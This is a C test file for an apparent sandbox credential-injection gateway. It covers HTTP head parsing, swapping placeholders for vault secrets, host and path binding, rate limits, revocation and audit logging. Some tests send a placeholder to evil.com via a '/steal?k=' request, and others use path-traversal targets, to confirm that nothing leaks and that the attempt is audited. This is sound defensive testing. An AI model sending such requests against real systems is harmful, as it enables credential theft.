/* Credential injection: the request-head parser and the rewrite, against a
 * real SQLite DB and the local vault, with the clock injected. */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../src/cred/ca.h"
#include "../../src/cred/cred.h"
#include "../../src/gateway/gw-cred.h"
#include "../../src/gateway/inject.h"
#include "../../src/cred/seal.h"
#include "../../src/cred/vault.h"
#include "check.h"

static long parse(const char *s, struct http_head *h)
{
	return head_parse(s, strlen(s), h);
}

static void test_parse(void)
{
	struct http_head h;
	const char ok[] = "GET /a?b=c HTTP/1.1\r\nHost: x.com\r\nX-Y:  spaced  \r\n\r\nBODY";
	struct buf b;

	CHECK(parse(ok, &h) == (long)(strlen(ok) - 4));
	CHECK(strcmp(h.method, "GET") == 0 && strcmp(h.target, "/a?b=c") == 0);
	CHECK(h.n == 2 && strcmp(head_get(&h, "x-y"), "spaced") == 0);
	head_set(&h, "host", "y.com");
	head_set(&h, "New", "1");
	buf_init(&b);
	head_write(&h, &b);
	CHECK(strcmp(b.data, "GET /a?b=c HTTP/1.1\r\nHost: y.com\r\nX-Y: spaced\r\nNew: 1\r\n\r\n") == 0);
	buf_free(&b);
	head_free(&h);

	CHECK(parse("GET / HTTP/1.1\r\nHost: x", &h) == 0);       /* incomplete */
	CHECK(parse("GET / HTTP/1.1\r", &h) == 0);
	static const char *const bad[] = {
		"GET / HTTP/1.1\nHost: x\n\n",            /* bare LF */
		"GET  / HTTP/1.1\r\n\r\n",
		"GET / HTTP/2.0\r\n\r\n",
		"G(T / HTTP/1.1\r\n\r\n",
		"GET / HTTP/1.1\r\n folded\r\n\r\n",
		"GET / HTTP/1.1\r\nBad Name: x\r\n\r\n",
		"GET / HTTP/1.1\r\nNoColon\r\n\r\n",
		"GET / HTTP/1.1\r\nX: a\x01b\r\n\r\n",
		"GET /\x7f HTTP/1.1\r\n\r\n",
	};
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		long r = parse(bad[i], &h);
		if (r != -EINVAL)
			fprintf(stderr, "bad head %zu: %ld\n", i, r);
		CHECK(r == -EINVAL);
	}
	{
		/* too many fields, too long */
		struct buf big;
		buf_init(&big);
		buf_adds(&big, "GET / HTTP/1.1\r\n");
		for (int i = 0; i < HEAD_MAX_FIELDS + 1; i++)
			buf_printf(&big, "X%d: y\r\n", i);
		buf_adds(&big, "\r\n");
		CHECK(head_parse(big.data, big.len, &h) == -E2BIG);
		buf_reset(&big);
		buf_adds(&big, "GET /");
		for (int i = 0; i < (int)HEAD_MAX; i++)
			buf_addc(&big, 'a');
		CHECK(head_parse(big.data, big.len, &h) == -E2BIG);
		buf_free(&big);
	}
}

struct env {
	char dir[64];
	struct db *db;
	struct vault *vault;
	struct inject_ctx ctx;
};

static void add_cred(struct env *e, const char *id, const char *json_spec, const char *value,
		     const char *bind_sandbox)
{
	struct cred c = { 0 };
	json *j = json_parse(json_spec, strlen(json_spec), NULL);
	_cleanup_free_ char *ref = NULL;
	err_t err = { 0 };

	CHECK(j && cred_parse_spec(j, &c, &err) == 0);
	json_free(j);
	c.id = xstrdup(id);
	c.tenant = xstrdup("ten_a");
	c.version = 1;
	c.created_at = wall_ms();
	c.binds = xcalloc(1, sizeof(*c.binds));
	c.n_binds = 1;
	if (bind_sandbox) {
		c.binds[0].kind = CRED_SCOPE_SANDBOX;
		c.binds[0].value = xstrdup(bind_sandbox);
	}
	CHECK(cred_insert(e->db, &c, &err) == 0);
	ref = cred_ref(id, 1);
	CHECK(vault_put(e->vault, ref, value, strlen(value), &err) == 0);
	cred_free(&c);
}

static int run(struct env *e, const char *sandbox, const char *host, const char *req,
	       struct buf *out, enum inject_verdict *v)
{
	struct inject_who who = { .tenant = "ten_a", .sandbox_id = sandbox, .host = host };
	struct http_head h;
	int n = -1;
	err_t err = { 0 };

	buf_reset(out);
	CHECK(parse(req, &h) > 0);
	CHECK(cred_inject(&e->ctx, &who, &h, v, &n, &err) == 0);
	head_write(&h, out);
	head_free(&h);
	return n;
}

/* As run, with a body read whole (the head's Content-Type decides its
 * spelling); body_out gets the body as it would go upstream. */
static int run_body(struct env *e, const char *sandbox, const char *host, const char *req,
		    const char *body, struct buf *body_out)
{
	struct inject_who who = { .tenant = "ten_a", .sandbox_id = sandbox, .host = host };
	enum inject_verdict v;
	struct http_head h;
	int n = -1;
	err_t err = { 0 };

	buf_reset(body_out);
	CHECK(parse(req, &h) > 0);
	h.has_body = true;
	buf_init(&h.body);
	buf_adds(&h.body, body);
	CHECK(cred_inject(&e->ctx, &who, &h, &v, &n, &err) == 0 && v == INJECT_FORWARD);
	buf_add(body_out, h.body.data, h.body.len);
	buf_addc(body_out, '\0');
	head_free(&h);
	return n;
}

static int audits(struct env *e, const char *decision)
{
	struct db_rows rows;
	int n;

	CHECK(db_query(e->db, &rows, NULL, "SELECT count(*) FROM credential_audit WHERE decision = ?",
		       "s", decision) == 0);
	n = (int)db_cell_int(&rows, 0, 0);
	db_rows_free(&rows);
	return n;
}

/* The gateway keeps its rate counters and its credential state for its
 * life, so neither has a free: these live in statics, as the gateway's do. */
static struct inject_rl *rl;
static struct gw_cred *gc;

static void test_inject(void)
{
	struct env e = { .dir = "/tmp/airlock-test-inject-XXXXXX" };
	_cleanup_free_ char *path = NULL, *ph = NULL, *ph_gh = NULL, *ph_other = NULL;
	enum inject_verdict v;
	struct seal_key k;
	struct buf out, req;
	err_t err = { 0 };

	CHECK(mkdtemp(e.dir) != NULL);
	path = xasprintf("%s/db", e.dir);
	e.db = db_open(path, &err);
	CHECK(e.db != NULL);
	if (!e.db)
		return;
	CHECK(seal_keygen(&k, NULL) == 0);
	e.vault = vault_local_open(e.db, &k);
	rl = inject_rl_new();
	e.ctx = (struct inject_ctx){ .db = e.db, .vault = e.vault, .rl = rl,
				     .now_ms = wall_ms() };
	add_cred(&e, "cred_oa", "{\"name\":\"oa\",\"env\":\"OPENAI_API_KEY\",\"inject\":"
		 "{\"type\":\"header\"},\"hosts\":[\"api.openai.com\"],\"rate_limit\":"
		 "{\"per_minute\":3}}", "sk-REAL", NULL);
	add_cred(&e, "cred_gh", "{\"name\":\"gh\",\"env\":\"GH_TOKEN\",\"inject\":{\"type\":\"basic\","
		 "\"username\":\"x-access-token\"},\"hosts\":[\"*.github.com\"],\"methods\":[\"GET\"],"
		 "\"path_prefix\":\"/repos/\"}", "ghp_REAL", NULL);
	add_cred(&e, "cred_q", "{\"name\":\"q\",\"inject\":{\"type\":\"query\",\"param\":\"key\"},"
		 "\"hosts\":[\"maps.example.com\"]}", "q&REAL", "sbx_1");
	add_cred(&e, "cred_old", "{\"name\":\"old\",\"env\":\"OLD\",\"inject\":{\"type\":\"header\","
		 "\"header\":\"X-Api-Key\"},\"hosts\":[\"old.example.com\"],"
		 "\"expires_at\":4102444800}", "old-REAL", NULL);
	add_cred(&e, "cred_body", "{\"name\":\"body\",\"inject\":{\"type\":\"header\","
		 "\"header\":\"X-Body-Key\"},\"hosts\":[\"body.example.com\"],"
		 "\"replace_in\":[\"body\"]}", "b\"o&dy\\REAL", NULL);
	add_cred(&e, "cred_echo", "{\"name\":\"echo\",\"inject\":{\"type\":\"header\","
		 "\"header\":\"X-Echo-Key\"},\"hosts\":[\"echo.example.com\"]}", "echo-REAL",
		 NULL);
	add_cred(&e, "cred_echo_all", "{\"name\":\"echo_all\",\"inject\":{\"type\":\"header\","
		 "\"header\":\"X-Echo-Key\"},\"hosts\":[\"echoall.example.com\"],"
		 "\"replace_in\":[\"headers\",\"body\",\"target\"]}", "all-REAL", NULL);
	add_cred(&e, "cred_v1", "{\"name\":\"v1\",\"inject\":{\"type\":\"header\","
		 "\"header\":\"X-V1-Key\"},\"hosts\":[\"v1.example.com\"],"
		 "\"path_prefix\":\"/v1\"}", "v1-REAL", NULL);
	ph = cred_placeholder(e.db, "sbx_1", "cred_oa", &err);
	ph_gh = cred_placeholder(e.db, "sbx_1", "cred_gh", &err);
	ph_other = cred_placeholder(e.db, "sbx_2", "cred_oa", &err);
	CHECK(ph && ph_gh && ph_other);
	buf_init(&out);
	buf_init(&req);

	/* placeholder in Authorization is replaced */
	buf_printf(&req, "POST /v1/chat HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer %s"
		   "\r\n\r\n", ph);
	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 1 && v == INJECT_FORWARD);
	CHECK(strstr(out.data, "Authorization: Bearer sk-REAL\r\n") && !strstr(out.data, ph));
	/* no placeholder: the header is added */
	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
		  &out, &v) == 1);
	CHECK(strstr(out.data, "Authorization: Bearer sk-REAL\r\n") != NULL);
	/* the placeholder toward another host: untouched, audited */
	buf_reset(&req);
	buf_printf(&req, "GET /steal?k=%s HTTP/1.1\r\nHost: evil.com\r\nX-K: %s\r\n\r\n", ph, ph);
	CHECK(audits(&e, "exfiltration_attempt") == 0);
	CHECK(run(&e, "sbx_1", "evil.com", req.data, &out, &v) == 0);
	CHECK(strstr(out.data, ph) && !strstr(out.data, "REAL"));
	CHECK(audits(&e, "exfiltration_attempt") == 1);
	/* another sandbox's placeholder sent from sbx_1 to the right host */
	buf_reset(&req);
	buf_printf(&req, "GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Other: %s\r\n\r\n", ph_other);
	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 1);
	CHECK(strstr(out.data, ph_other) != NULL);
	CHECK(audits(&e, "exfiltration_attempt") == 2);
	/* rate limit: 3 per minute; this was the fourth use */
	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 0);
	CHECK(v == INJECT_RATE_LIMITED && audits(&e, "rate_limited") == 1);
	/* another sandbox has its own counter; the next minute resets ours */
	CHECK(run(&e, "sbx_2", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1 &&
	      v == INJECT_FORWARD);
	e.ctx.now_ms += 60000;
	CHECK(run(&e, "sbx_1", "api.openai.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1 &&
	      v == INJECT_FORWARD);

	/* basic auth in a wildcard host, path prefix and method respected;
	 * a placeholder inside the client's Basic credentials is replaced */
	{
		_cleanup_free_ char *up = xasprintf("x-access-token:%s", ph_gh);
		_cleanup_free_ char *b64 = base64_encode(up, strlen(up));
		_cleanup_free_ char *want_b64 = base64_encode("x-access-token:ghp_REAL", 23);
		_cleanup_free_ char *want = xasprintf("Authorization: Basic %s\r\n", want_b64);
		buf_reset(&req);
		buf_printf(&req, "GET /repos/a/b HTTP/1.1\r\nAuthorization: Basic %s\r\n\r\n", b64);
		CHECK(run(&e, "sbx_1", "api.github.com", req.data, &out, &v) == 1);
		CHECK(strstr(out.data, want) != NULL);
		CHECK(run(&e, "sbx_1", "github.com", req.data, &out, &v) == 0);      /* apex */
		CHECK(run(&e, "sbx_1", "api.github.com", "POST /repos/a HTTP/1.1\r\n\r\n", &out,
			  &v) == 0);                                                  /* method */
		CHECK(run(&e, "sbx_1", "api.github.com", "GET /user HTTP/1.1\r\n\r\n", &out,
			  &v) == 0);                                                  /* path */
	}
	/* query injection, bound to sbx_1 only; the value is percent-encoded */
	CHECK(run(&e, "sbx_1", "maps.example.com", "GET /geo?key=mine&x=1 HTTP/1.1\r\n\r\n", &out,
		  &v) == 1);
	CHECK(strncmp(out.data, "GET /geo?x=1&key=q%26REAL HTTP/1.1\r\n", 36) == 0);
	CHECK(run(&e, "sbx_2", "maps.example.com", "GET /geo HTTP/1.1\r\n\r\n", &out, &v) == 0);

	/* a body read whole: the placeholder is spelled as the body's type
	 * wants the value (the value has characters each one escapes) */
	{
		_cleanup_free_ char *ph_b = cred_placeholder(e.db, "sbx_1", "cred_body", &err);
		_cleanup_free_ char *js = xasprintf("{\"key\":\"%s\",\"n\":1}", ph_b);
		_cleanup_free_ char *form = xasprintf("a=1&client_secret=%s", ph_b);
		_cleanup_free_ char *text = xasprintf("%s %s", ph_b, ph_b);
		struct buf body;
		int before = audits(&e, "exfiltration_attempt");

		CHECK(ph_b != NULL);
		buf_init(&body);
		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
			       "application/json; charset=utf-8\r\n\r\n", js, &body) == 1);
		CHECK(strcmp(body.data, "{\"key\":\"b\\\"o&dy\\\\REAL\",\"n\":1}") == 0);
		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
			       "application/vnd.api+json\r\n\r\n", js, &body) == 1);
		CHECK(strcmp(body.data, "{\"key\":\"b\\\"o&dy\\\\REAL\",\"n\":1}") == 0);
		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\nContent-Type: "
			       "application/x-www-form-urlencoded\r\n\r\n", form, &body) == 1);
		CHECK(strcmp(body.data, "a=1&client_secret=b%22o%26dy%5CREAL") == 0);
		CHECK(run_body(&e, "sbx_1", "body.example.com", "POST /t HTTP/1.1\r\n\r\n", text,
			       &body) == 1);
		CHECK(strcmp(body.data, "b\"o&dy\\REAL b\"o&dy\\REAL") == 0);
		/* toward a host it is not bound to: untouched, audited */
		CHECK(run_body(&e, "sbx_1", "evil.com", "POST /t HTTP/1.1\r\n\r\n", form,
			       &body) == 0);
		CHECK(strcmp(body.data, form) == 0);
		CHECK(audits(&e, "exfiltration_attempt") == before + 1);
		buf_free(&body);
	}

	/* by default the value goes only where inject says: the placeholder in
	 * the target, another header, Basic credentials or the body stays (an
	 * upstream echoing the request hands back only the placeholder) */
	{
		_cleanup_free_ char *pe = cred_placeholder(e.db, "sbx_1", "cred_echo", &err);
		_cleanup_free_ char *pa = cred_placeholder(e.db, "sbx_1", "cred_echo_all", &err);
		_cleanup_free_ char *up = xasprintf("u:%s", pe);
		_cleanup_free_ char *b64 = base64_encode(up, strlen(up));
		_cleanup_free_ char *body_in = xasprintf("say %s", pe);
		_cleanup_free_ char *up_all = NULL, *b64_all = NULL, *body_all = NULL;
		_cleanup_free_ char *want_b64 = base64_encode("u:all-REAL", 10), *want = NULL;
		struct buf body;
		int before = audits(&e, "not_replaced");

		CHECK(pe && pa);
		buf_init(&body);
		buf_reset(&req);
		buf_printf(&req, "POST /e?k=%s HTTP/1.1\r\nX-Other: %s\r\nAuthorization: Basic %s"
			   "\r\nX-Echo-Key: %s\r\n\r\n", pe, pe, b64, pe);
		CHECK(run(&e, "sbx_1", "echo.example.com", req.data, &out, &v) == 1);
		CHECK(strstr(out.data, "X-Echo-Key: echo-REAL\r\n") != NULL);   /* its own place */
		CHECK(strstr(strstr(out.data, "echo-REAL") + 9, "REAL") == NULL);  /* nowhere else */
		CHECK(strncmp(out.data, "POST /e?k=", 10) == 0 &&
		      strncmp(out.data + 10, pe, strlen(pe)) == 0);
		CHECK(strstr(out.data, "X-Other: ") && strstr(strstr(out.data, "X-Other: "), pe));
		CHECK(strstr(out.data, b64) != NULL);
		CHECK(run_body(&e, "sbx_1", "echo.example.com", "POST /e HTTP/1.1\r\n\r\n", body_in,
			       &body) == 1);
		CHECK(strcmp(body.data, body_in) == 0);
		CHECK(audits(&e, "not_replaced") == before + 2);
		/* opted in: replaced in each place named */
		up_all = xasprintf("u:%s", pa);
		b64_all = base64_encode(up_all, strlen(up_all));
		body_all = xasprintf("say %s", pa);
		want = xasprintf("Authorization: Basic %s\r\n", want_b64);
		buf_reset(&req);
		buf_printf(&req, "POST /e?k=%s HTTP/1.1\r\nX-Other: %s\r\nAuthorization: Basic %s"
			   "\r\n\r\n", pa, pa, b64_all);
		CHECK(run(&e, "sbx_1", "echoall.example.com", req.data, &out, &v) == 1);
		CHECK(strncmp(out.data, "POST /e?k=all-REAL HTTP/1.1\r\n", 29) == 0);
		CHECK(strstr(out.data, "X-Other: all-REAL\r\n") && strstr(out.data, want));
		CHECK(!strstr(out.data, pa));
		CHECK(run_body(&e, "sbx_1", "echoall.example.com", "POST /e HTTP/1.1\r\n\r\n",
			       body_all, &body) == 1);
		CHECK(strcmp(body.data, "say all-REAL") == 0);
		buf_free(&body);
	}
	/* path_prefix: whole segments, dots resolved */
	CHECK(run(&e, "sbx_1", "v1.example.com", "GET /v1/x HTTP/1.1\r\n\r\n", &out, &v) == 1);
	CHECK(run(&e, "sbx_1", "v1.example.com", "GET /v10 HTTP/1.1\r\n\r\n", &out, &v) == 0);
	CHECK(run(&e, "sbx_1", "v1.example.com", "GET /v1/../admin HTTP/1.1\r\n\r\n", &out,
		  &v) == 0);
	CHECK(run(&e, "sbx_1", "v1.example.com", "GET /v1/%2e%2e/admin HTTP/1.1\r\n\r\n", &out,
		  &v) == 0);
	CHECK(!strstr(out.data, "REAL"));

	/* expiry (by the injected clock) and revocation stop injection */
	CHECK(run(&e, "sbx_1", "old.example.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 1);
	CHECK(strstr(out.data, "X-Api-Key: old-REAL\r\n") != NULL);
	e.ctx.now_ms = 4102444800000LL + 1;
	CHECK(run(&e, "sbx_1", "old.example.com", "GET / HTTP/1.1\r\n\r\n", &out, &v) == 0);
	CHECK(!strstr(out.data, "REAL"));
	e.ctx.now_ms = wall_ms() + 120000;
	CHECK(db_exec(e.db, NULL, "UPDATE credentials SET revoked_at = 1 WHERE id = 'cred_oa'",
		      NULL) == 1);
	buf_reset(&req);
	buf_printf(&req, "GET / HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n", ph);
	CHECK(run(&e, "sbx_1", "api.openai.com", req.data, &out, &v) == 0);
	CHECK(strstr(out.data, ph) && !strstr(out.data, "REAL"));
	CHECK(audits(&e, "revoked") == 1);
	/* no audit record ever holds a value */
	{
		struct db_rows rows;
		CHECK(db_query(e.db, &rows, NULL, "SELECT count(*) FROM credential_audit WHERE"
			       " coalesce(path,'') || coalesce(detail,'') || coalesce(host,'')"
			       " LIKE '%REAL%'", NULL) == 0);
		CHECK(db_cell_int(&rows, 0, 0) == 0);
		db_rows_free(&rows);
	}
	{
		/* which hosts the gateway intercepts TLS for: gw_cred_wants, on its
		 * own handle of the same DB, for a sandbox of ten_a's */
		_cleanup_free_ char *key = xasprintf("%s/ca.key", e.dir);
		_cleanup_free_ char *crt = xasprintf("%s/ca.crt", e.dir);
		struct gateway_config cfg = { .db_path = path, .vault_key = &k };

		CHECK(db_exec(e.db, &err, "INSERT INTO sandboxes(id, tenant_id, template,"
			      " template_version, backend, desired, observed, spec, created_at,"
			      " updated_at) VALUES('sbx_1','ten_a','busybox',1,'ns','running',"
			      "'running','{}',0,0)", NULL) == 1);
		CHECK(ca_ensure(key, crt, &err) == 0);
		CHECK((cfg.ca = ca_load(key, crt, &err)) != NULL);
		CHECK((gc = gw_cred_open(&cfg, &err)) != NULL);
		if (gc) {
			CHECK(gw_cred_wants(gc, "sbx_1", "x.github.com"));
			CHECK(!gw_cred_wants(gc, "sbx_1", "example.org"));
			CHECK(!gw_cred_wants(gc, "sbx_unknown", "x.github.com"));
		}
	}

	buf_free(&out);
	buf_free(&req);
	vault_close(e.vault);
	db_close(e.db);
	{
		_cleanup_free_ char *cmd = xasprintf("rm -rf '%s'", e.dir);
		CHECK(system(cmd) == 0);
	}
}

/* A streamed body's replacements: the same result whatever the reads'
 * sizes, a placeholder split across reads included, and a prefix of one at
 * the very end left as it is. */
static void test_subst_stream(void)
{
	struct http_head h = { 0 };
	const char *body = "a=airlock-ph-AAAA&b=airlock-ph-BB&c=airlock-ph-AAAA!airlock-ph-A";
	const char *want = "a=secret-one&b=2&c=secret-one!airlock-ph-A";
	size_t n = strlen(body);

	h.subst = xcalloc(2, sizeof(*h.subst));
	h.subst[0] = (struct body_subst){ xstrdup("airlock-ph-AAAA"), xstrdup("secret-one") };
	h.subst[1] = (struct body_subst){ xstrdup("airlock-ph-BB"), xstrdup("2") };
	h.n_subst = 2;
	for (size_t step = 1; step <= n; step++) {
		struct subst_stream ss;
		struct buf out;
		subst_init(&ss, &h);
		buf_init(&out);
		for (size_t off = 0; off < n; off += step) {
			size_t k = n - off < step ? n - off : step;
			subst_feed(&ss, body + off, k, off + k == n, &out);
		}
		CHECK(out.len == strlen(want) && !memcmp(out.data, want, out.len));
		CHECK(ss.pend.len == 0);
		subst_free(&ss);
		buf_free(&out);
	}
	head_free(&h);
}

int main(void)
{
	test_subst_stream();
	test_parse();
	test_inject();
	if (failures)
		fprintf(stderr, "%d check(s) failed\n", failures);
	return failures ? 1 : 0;
}
